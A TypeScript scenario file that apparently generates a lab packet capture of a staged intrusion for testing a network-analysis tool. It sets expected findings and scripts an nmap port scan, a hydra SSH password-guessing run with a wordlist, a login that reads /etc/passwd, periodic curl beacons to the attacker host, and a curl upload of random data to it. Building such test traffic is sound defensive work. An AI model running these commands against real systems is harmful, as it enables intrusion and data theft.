import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { expectExit, lookUp, visit } from './actions.ts';
import { loginWithPasswords } from './login.ts';
import { type Scenario, type Stage, sleepUntil, timesBetween } from './scenario.ts';

const listenerPort = 8080;
/** hydra waits so many seconds before it goes on after a connection was ended on it; its own 32 would take too long. */
const hydraWait = 8;
const beacons = 12;
const beaconSeconds = 5;
/** Milliseconds off the beat, in turn: a sleep loop on a busy machine looks like this. */
const jitter = [0, 45, -60, 110, -20, 75, -95, 30];
const uploadBytes = 300_000;

export const intrusion: Scenario = {
  name: 'intrusion',
  title: 'An intrusion',
  summary:
    'A server is scanned, its SSH password is guessed, and the taken-over server calls home and hands out a file, while somebody else goes on reading its web site.',
  cast: {
    attacker: 'the attacker: scans, guesses, and is called by the victim afterwards (HTTP on port 8080)',
    victim: 'the server under attack; the capture is from its interface; HTTP 80, SSH 22, DNS 53',
    bystander: 'an ordinary visitor: reads pages, asks DNS; has nothing to do with the attack',
  },
  shouldSay: [
    '10.77.0.66 scans ports of 10.77.0.10: a vertical scan over TCP, with a few UDP ports after it.',
    '10.77.0.66 guesses SSH passwords on 10.77.0.10, and gets in at the end.',
    '10.77.0.10 calls 10.77.0.66 port 8080 at regular intervals: a beacon.',
    '10.77.0.10 uploads about 300 kB to 10.77.0.66. (Both addresses are private: what looks only at public peers stays silent about beacon and upload.)',
  ],
  shouldNotSay: [
    'Anything against the bystander 10.77.0.20, the gateway 10.77.0.1 or the resolver 10.77.0.53.',
    'A horizontal scan or an ARP scan: one host alone is scanned, and ARP is asked only for hosts that talk.',
  ],
  maximumSeconds: 180,
  maximumBytes: 1_500_000,
  async play(stage) {
    const over = new AbortController();
    const browsing = browse(stage, over.signal);
    try {
      await sleep(12_000);
      await scan(stage);
      await sleep(2_000);
      await guess(stage);
      await sleep(1_500);
      await logIn(stage);
      await sleep(3_000);
      await callHome(stage);
      await sleep(5_000);
    } finally {
      over.abort();
      await browsing;
    }
  },
};

/** The bystander's day: goes on until the story is over. */
async function browse(stage: Stage, over: AbortSignal): Promise<void> {
  const { bystander } = stage.network;
  const origin = Date.now();
  for (const [turn, second] of timesBetween(0.5, intrusion.maximumSeconds, [3, 6, 4, 9, 5, 8]).entries()) {
    await sleep(Math.max(0, origin + second * 1_000 - Date.now()), undefined, { signal: over }).catch(() => {});
    if (over.aborted) return;
    if (turn % 3 === 1) await lookUp(stage, bystander, turn % 2 === 0 ? ['lab.test', 'MX'] : ['news.test']);
    else await visit(stage, bystander, turn);
  }
}

async function scan({ network, timeline }: Stage): Promise<void> {
  const { attacker, victim } = network;
  const ports = (output: string, state: string): readonly (string | undefined)[] =>
    [...output.matchAll(new RegExp(`^(\\d+/\\w+)\\s+${state}\\s`, 'gm'))].map(([, port]) => port);
  for (const words of [
    ['-sS', '-T4', '--top-ports', '1000'],
    ['-sU', '-T4', '-p', '53,123,161,500,1900'],
  ]) {
    const argv = ['nmap', '-n', ...words, victim.ipv4];
    await timeline.during(
      attacker.role,
      `scans ports: ${argv.join(' ')}`,
      () => expectExit(network.run(attacker, argv, { timeout: 60_000 }), 'nmap', 0),
      ({ stdout }) => {
        // nmap lists a few closed ports one by one, and only counts many.
        const closed = ports(stdout, 'closed').length + Number(/(\d+) closed/.exec(stdout)?.[1] ?? 0);
        return `open: ${ports(stdout, 'open').join(', ')}; closed: ${closed}`;
      },
    );
  }
}

/** Words that people use as passwords, with what they put behind them; the right one comes last. */
function passwordList(rightOne: string): readonly string[] {
  const words = 'password welcome operator letmein garden summer dragon monkey flower spring'.split(' ');
  const endings = ['', '1', '12', '123', '1234', '2020', '2021', '2022', '2023', '2024', '!', '?'];
  return [...endings.flatMap((ending) => words.map((word) => `${word}${ending}`)), rightOne];
}

async function guess({ network, victim, timeline }: Stage): Promise<void> {
  const list = passwordList(victim.password);
  writeFileSync(join(network.folder, 'guesses'), `${list.join('\n')}\n`);
  const target = `ssh://${network.victim.ipv4}`;
  const argv = ['hydra', '-I', '-f', '-t', '4', '-w', `${hydraWait}`, '-l', victim.user, '-P', 'guesses', target];
  await timeline.during(
    network.attacker.role,
    `guesses the password of ${victim.user}: ${argv.join(' ')} (${list.length} guesses, the last one is right)`,
    async () => {
      const { stdout } = await expectExit(network.run(network.attacker, argv, { timeout: 90_000 }), 'hydra', 0);
      if (!stdout.includes(`password: ${victim.password}`))
        throw new Error(`hydra did not find the password: ${stdout}`);
      return [...readFileSync(victim.sshLog, 'utf8').matchAll(/Failed password .* port (\d+)/g)].map(
        ([, port]) => port,
      );
    },
    (failed) => `found, after ${failed.length} wrong passwords in ${new Set(failed).size} connections`,
  );
}

async function logIn(stage: Stage): Promise<void> {
  const { network, victim, timeline } = stage;
  const command = 'id; uname -sr; ls -l /home; cat /etc/passwd';
  await timeline.during(
    network.attacker.role,
    `logs in as ${victim.user} with the password found, looks around`,
    () =>
      expectExit(
        loginWithPasswords(network, network.attacker, victim, network.victim.ipv4, [victim.password], command),
        'ssh',
        0,
      ),
    ({ stdout }) => stdout.split('\n')[0] ?? '',
  );
}

async function callHome({ network, timeline }: Stage): Promise<void> {
  const { attacker, victim } = network;
  const listener = network.start(attacker, [
    process.execPath,
    join(import.meta.dirname, 'listener.ts'),
    attacker.ipv4,
    `${listenerPort}`,
  ]);
  await sleep(1_000);
  const url = `http://${attacker.ipv4}:${listenerPort}`;
  const origin = Date.now() + 200;
  for (let turn = 0; turn < beacons; turn++) {
    await sleepUntil(origin + turn * beaconSeconds * 1_000 + (jitter[turn % jitter.length] ?? 0));
    await timeline.during(
      victim.role,
      `calls home: GET ${url}/order`,
      () => expectExit(network.run(victim, ['curl', '-s', `${url}/order`]), 'curl', 0),
      ({ stdout }) => `told to ${stdout.trim()}`,
    );
  }
  await sleep(4_000);
  const archive = join(network.folder, 'archive.bin');
  writeFileSync(archive, randomBytes(uploadBytes));
  await timeline.during(
    victim.role,
    `uploads ${uploadBytes} bytes: PUT ${url}/archive.bin`,
    () => expectExit(network.run(victim, ['curl', '-s', '-T', archive, `${url}/archive.bin`]), 'curl', 0),
    ({ stdout }) => stdout.trim(),
  );
  const ended = once(listener, 'exit');
  listener.kill('SIGTERM');
  await ended;
}
